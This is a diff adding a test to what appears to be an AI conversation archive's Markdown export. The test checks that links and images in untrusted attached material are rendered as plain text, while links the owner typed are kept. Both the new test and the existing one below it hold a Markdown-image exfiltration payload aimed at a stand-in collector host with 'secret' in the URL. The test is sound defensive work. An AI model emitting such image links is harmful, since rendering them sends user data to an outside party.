@@ -105,6 +105,16 @@ test('without a title its id stands for it', async () => {
   await expect(toJson(saved, 'conv_9')).rejects.toMatchObject({ code: 'unknown_conversation' });
 });
 
+test('what came along with a request is no link and no image either; what the owner typed stays', async () => {
+  const store = await openTestStore();
+  onTestFinished(() => store.close());
+  const material = [{ name: 'page.html', text: '![x](https://collector.example/?d=secret)', untrusted: true }];
+  await new Conversations(store).begin(testTurn('See https://mine.example/a.', { material }), now);
+  const text = await toMarkdown(new ConversationArchive(store), 'conv_1');
+  expect(text).toContain('See https://mine.example/a.');
+  expect(text).toContain('x (collector.example/?d=secret)');
+});
+
 test('what others may have written into a call is no link and no image in the document', async () => {
   const image = '![x](https://collector.example/?d=secret)';
   const saved = await told(
